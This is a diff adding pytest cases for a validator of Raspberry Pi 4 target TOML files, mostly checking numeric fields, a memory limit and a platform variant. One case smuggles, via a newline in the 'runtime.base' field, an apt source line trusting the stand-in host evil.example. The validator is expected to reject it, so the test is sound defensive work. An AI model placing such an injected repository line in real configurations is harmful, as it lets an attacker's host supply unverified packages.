@@ -109,6 +109,49 @@ def test_copy_loads_unchanged(rpi4_copy: Path) -> None:
             "",
             "targets/rpi4.toml: memory: is required",
         ),
+        (
+            'kind = "none"',
+            'kind = "none"\ntops = nan',
+            "targets/rpi4.toml: accelerator.tops: must be a finite number",
+        ),
+        (
+            'kind = "none"',
+            'kind = "none"\ntops = -1.5',
+            "targets/rpi4.toml: accelerator.tops: must be a positive number",
+        ),
+        # accelerator.tops is strict like every other number: no string, bool or absurd value.
+        (
+            'kind = "none"',
+            'kind = "none"\ntops = "12"',
+            "targets/rpi4.toml: accelerator.tops: must be a number (not a string or true/false)",
+        ),
+        (
+            'kind = "none"',
+            'kind = "none"\ntops = true',
+            "targets/rpi4.toml: accelerator.tops: must be a number (not a string or true/false)",
+        ),
+        (
+            'kind = "none"',
+            'kind = "none"\ntops = 1e40',
+            "targets/rpi4.toml: accelerator.tops: must be at most 2147483647",
+        ),
+        (
+            "memory_max_mb = 2048",
+            "memory_max_mb = 99999999",
+            "targets/rpi4.toml: service.memory_max_mb: must be at most 1048576",
+        ),
+        (
+            'variant = "v8"',
+            'variant = "v8\\n"',
+            "targets/rpi4.toml: platform.variant: must match 'v' and a number, as OCI platform "
+            "variants are (e.g. v8)",
+        ),
+        (
+            'base = "debian:bookworm"',
+            'base = "debian:bookworm main\\ndeb [trusted=yes] http://evil.example/ x"',
+            "targets/rpi4.toml: runtime.base: must match debian:SUITE with a lower-case Debian "
+            "suite name (e.g. debian:bookworm)",
+        ),
     ],
 )
 def test_error_messages(rpi4_copy: Path, old: str, new: str, expected: str) -> None:
@@ -164,3 +207,9 @@ def test_load_target_file_rejects_binary(tmp_path: Path) -> None:
     bad.write_bytes(b"\xff\xfe\x00 not text")
     with pytest.raises(TargetError, match="not a UTF-8 text file"):
         load_target_file(bad)
+
+
+def test_integer_tops_is_still_a_number(rpi4_copy: Path) -> None:
+    _edit(rpi4_copy, 'kind = "none"', 'kind = "npu"\ntops = 13')
+    spec = load_target_file(rpi4_copy).spec
+    assert isinstance(spec, LinuxTarget) and spec.accelerator.tops == 13.0
